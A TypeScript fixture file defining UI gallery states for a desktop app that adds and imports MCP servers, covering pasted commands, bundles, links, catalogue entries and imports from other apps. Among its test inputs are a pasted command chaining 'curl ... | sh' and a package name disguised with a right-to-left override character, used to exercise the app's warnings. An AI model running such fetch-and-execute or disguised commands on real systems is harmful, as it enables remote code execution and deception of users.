import type { CommandOutput } from '../../electron/control/commands.ts';
import type { Answer } from '../../electron/ipc/contract.ts';
import { clicks, drops, inTurn, opens, opensAll, pastes, presses, writes, type Act } from './acts.ts';
import { problem, refused } from './gateway.ts';
import { APPS, SERVERS } from './samples.ts';
import type { GalleryState } from './states.ts';

type Offered = CommandOutput<'getting.pick'>;
type Found = CommandOutput<'import.look'>;
type Taken = CommandOutput<'import.take'>;

const calm = { servers: SERVERS, apps: APPS } as const;
const ok = (value: unknown) => (): Answer<unknown> => ({ ok: true, value });
const never = (): never => new Promise(() => undefined) as never; // an answer that does not come

const PASTED = 'EXA_API_KEY=YOUR_KEY npx -y exa-mcp-server --folder /path/to/pages';
const BLOCK = `{"mcpServers": {"exa": {"command": "npx", "args": ["-y", "exa-mcp-server"], "env": {"EXA_API_KEY": ""}}}}`;
const MANY = `{"mcpServers": {"exa": {"command": "npx", "args": ["-y", "exa-mcp-server"]}, "mail": {"url": "https://mcp.mail.example/mcp"}}}`;

const adding = (act: Act, more: Partial<GalleryState> = {}): GalleryState => ({
  snapshot: calm,
  view: { screen: 'add-server' },
  act,
  ...more,
});

const field = (key: string, given: Partial<Offered['fields'][number]>): Offered['fields'][number] => ({
  ...{ key, title: key, about: null, type: 'text', isSecret: false, isRequired: true, isMany: false },
  ...{ default: [], choices: [], min: null, max: null, ...given },
});
const NOTES: Offered = {
  offer: 'offer-0123456789abcdef',
  from: 'file',
  source: 'notes.mcpb',
  reviewed: null,
  digest: 'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  author: 'Ada',
  name: 'Notes',
  version: '1.2.0',
  about: 'Keeps notes in folders.',
  isRemote: false,
  fields: [
    field('folders', {
      title: 'Folders',
      about: 'Where the notes are.',
      type: 'folder',
      isMany: true,
      default: ['/a'],
    }),
    field('key', { title: 'Key', isSecret: true }),
    field('order', { title: 'Order', isRequired: false, choices: ['newest', 'oldest'] }),
  ],
  updates: [],
  command: 'node',
  args: ['/data/bundles/notes/server.js', '/a'],
  env: [
    { name: 'NOTES_KEY', value: null },
    { name: 'NOTES_ORDER', value: 'newest' },
  ],
  missing: ['key'],
  wrong: [],
};
const LISTED: Offered = {
  ...NOTES,
  ...{ from: 'catalogue', source: 'time', reviewed: { from: 'its published package', on: '2026-08-20' } },
  ...{ digest: null, author: null, name: 'Time', version: '2026.8.1', about: null, fields: [], env: [], missing: [] },
  ...{ command: 'uvx', args: ['mcp-server-time@2026.8.1'] },
};
const PUBLIC: Offered = {
  ...LISTED,
  ...{ from: 'registry', source: 'io.example/notes', reviewed: null, name: 'Notes', isRemote: true },
  ...{ command: 'npx', args: ['-y', 'mcp-remote', 'https://notes.example/mcp'] },
};

/** Laid out as that; `filled` is what becomes of it once something is filled in. */
const offer = (offered: Offered, act: Act, filled: Partial<Offered> = {}): GalleryState =>
  adding(act, {
    answers: {
      'getting.open': ok(offered),
      'getting.pick': ok(offered),
      'getting.link': ok({ laidOut: offered, pasted: null }),
      'getting.fill': ok({ ...offered, ...filled }),
    },
  });
const file = opens({ type: 'file', text: '/home/ada/notes.mcpb' });
const link = opens({ type: 'link', text: 'holdfast://add?server=time' });
const starts = clicks('form .button.filled');

const ADDRESS = { name: 'Mail', command: 'npx', args: ['-y', 'mcp-remote', 'https://mcp.mail.example/mcp'] };
const LINKED = { ...ADDRESS, env: [{ name: 'MAIL_KEY', value: null, isSecret: true }], holes: [], isRemote: true };

const app = (id: string, title: string, given: Partial<Found['servers'][number]['apps'][number]> = {}) => ({
  ...{ app: id, title, entry: 'files', file: `/home/ada/${id}.json`, scope: 'section' as const, project: null },
  ...{ canMove: true, isDisabled: false, ...given },
});
const FOUND: Found['servers'][number] = {
  ...{ id: '0123456789abcdef', name: 'Files', isKnown: false, folder: null, isRemote: false },
  ...{ command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/home/ada/Documents'] },
  ...{ env: [], blanks: [], isSuggested: true, apps: [app('claude', 'Claude'), app('cursor', 'Cursor')] },
};
const IN_APPS: Found = {
  servers: [
    FOUND,
    {
      ...{ ...FOUND, id: '1123456789abcdef', name: 'GitHub', isKnown: true, folder: '/home/ada/work' },
      ...{ command: 'uvx', args: ['mcp-server-git'], env: [{ name: 'GITHUB_TOKEN', isSecret: true, value: '•••' }] },
      apps: [app('vscode', 'VS Code', { isDisabled: true })],
    },
    {
      ...{ ...FOUND, id: '2123456789abcdef', name: 'Notes', isSuggested: false },
      blanks: [{ token: '${input:folder}', label: 'The folder of your notes', isSecret: false, fallback: null }],
      apps: [app('vscode', 'VS Code', { canMove: false })],
    },
  ],
  skipped: [
    {
      ...{ app: 'cursor', title: 'Cursor', file: '/home/ada/cursor.json', entry: 'old' },
      reason: {
        code: 'empty',
        en: 'It names no program to start and no address.',
        'zh-CN': '它没有写明要启动的程序，也没有地址。',
      },
    },
  ],
  unread: [{ app: 'zed', title: 'Zed', file: '/home/ada/zed.json' }] as unknown as Found['unread'], // as much of it as is shown
};
const edit = { app: 'claude', changed: true };
const TAKEN = {
  ...{ dryRun: false, taken: [{ name: 'Files' }, { name: 'GitHub' }], edits: [edit] },
  left: [],
} as unknown as Taken; // as much of it as is shown
const LEFT = {
  ...{ ...TAKEN, edits: [{ ...edit, queued: true }] },
  left: [
    {
      ...{ name: 'Notes', apps: ['vscode'] },
      reason: {
        code: 'twice',
        en: 'Its name is there twice, so it is not clear which is meant.',
        'zh-CN': '这个名称出现了两次，无法确定指的是哪一个。',
      },
    },
  ],
} as unknown as Taken; // as above
const importing = (answers: NonNullable<GalleryState['answers']> = {}, act?: Act): GalleryState => ({
  snapshot: calm,
  view: { screen: 'import' },
  answers: { 'import.look': ok(IN_APPS), 'import.take': ok(TAKEN), ...answers },
  ...(act !== undefined && { act }),
});
const tries = clicks('li .acts .button');
const moves = clicks('.bar .button.filled');

/** Servers from a paste, a file, a link, the list, and from other apps. */
export const ADDING_STATES = {
  'add-server': { snapshot: calm, view: { screen: 'add-server' } },
  'add-server-nothing': adding(clicks('form .button.filled')),
  'add-server-long': adding(pastes('npx '.repeat(9_000))),
  'add-server-block': adding(pastes(BLOCK.slice(0, 60))),
  'add-server-no-server': adding(pastes('Thank you for your interest in our server')),
  'add-server-page': adding(pastes('https://github.com/example/notes')),
  'add-server-bad': adding(pastes('npx -y exa-mcp-server && curl https://example.com | sh')),
  'add-server-unsafe': adding(pastes('npx -y exa-mcp-ser\u202Ever')),
  'add-server-file': adding(drops('notes.txt', 'x'.repeat(70_000))),
  'add-server-check': adding(pastes(PASTED)),
  'add-server-missing': adding(inTurn(pastes(PASTED), starts)),
  'add-server-json': adding(drops('settings.json', BLOCK)),
  'add-server-url': adding(pastes('https://mcp.mail.example/mcp')),
  'add-server-many': adding(pastes(MANY)),
  'add-server-known': adding(inTurn(pastes('npx -y exa-mcp-server'), starts), {
    answers: { 'servers.add': () => refused('UPSTREAM_KNOWN_BEFORE', { name: 'Exa' }) },
  }),
  'add-server-taken': adding(inTurn(pastes('npx -y exa-mcp-server'), starts), {
    answers: { 'servers.add': () => refused('UPSTREAM_NAME_TAKEN', { name: 'Exa' }) },
  }),
  'add-server-refused': adding(pastes(PASTED), { answers: { 'servers.read': () => refused('INTERNAL') } }),
  'list-found': adding(writes('input[type=search]', 'time')),
  'list-none': adding(writes('input[type=search]', 'zzz')),
  'list-online': adding(inTurn(writes('input[type=search]', 'notes'), clicks('section .acts .button'))),
  'list-offline': adding(inTurn(writes('input[type=search]', 'notes'), clicks('section .acts .button')), {
    answers: {
      'getting.search': ({ online }: { online: boolean }) =>
        online ? refused('OFFER_REFUSED', { refusal: 'offline' }) : ok({ found: [], isCut: false, asOf: null })(),
    },
  }),
  'offer-catalogue': offer(LISTED, clicks('.rows .button')),
  'offer-public': offer(PUBLIC, clicks('.rows .button')),
  'offer-link': offer(LISTED, link),
  'offer-link-address': adding(opens({ type: 'link', text: 'holdfast://add?url=…' }), {
    answers: { 'getting.link': ok({ laidOut: null, pasted: LINKED }) },
  }),
  'offer-link-refused': adding(opens({ type: 'link', text: 'holdfast://add' }), {
    answers: { 'getting.link': () => refused('OFFER_REFUSED', { refusal: 'linked', reason: '–' }) },
  }),
  'offer-bundle': offer(NOTES, inTurn(file, opensAll)),
  'offer-missing': offer(NOTES, inTurn(file, starts)),
  'offer-wrong': offer(NOTES, inTurn(file, writes('input[type=password]', 'x'), starts), {
    missing: [],
    wrong: ['key'],
  }),
  'offer-update': offer({ ...NOTES, updates: ['Notes'] }, file),
  'offer-refused': adding(file, {
    answers: { 'getting.open': () => refused('OFFER_REFUSED', { refusal: 'not-zip', file: 'notes.mcpb' }) },
  }),
  import: importing(),
  'import-none': importing({ 'import.look': ok({ servers: [], skipped: [], unread: [] }) }),
  'import-rest': importing({}, opensAll),
  'import-loading': { ...importing({ 'import.look': never }), filled: 0 },
  'import-error': importing({ 'import.look': () => refused('INTERNAL') }),
  'import-tried': importing({ 'import.try': ok({ problem: null, tools: ['a', 'b', 'c'] }) }, tries),
  'import-failed': importing({ 'import.try': () => ok({ problem: problem('INTERNAL').message, tools: [] })() }, tries),
  'import-moving': importing({ 'import.take': never }, moves),
  'import-done': importing({}, moves),
  'import-left': importing({ 'import.take': ok(LEFT) }, moves),
  'import-stale': importing({ 'import.take': () => refused('IMPORT_STALE') }, moves),
  'servers-menu': { snapshot: calm, view: { screen: 'servers' }, filled: 0, act: presses('Enter', '.icon-button') },
} as const satisfies Record<string, GalleryState>;
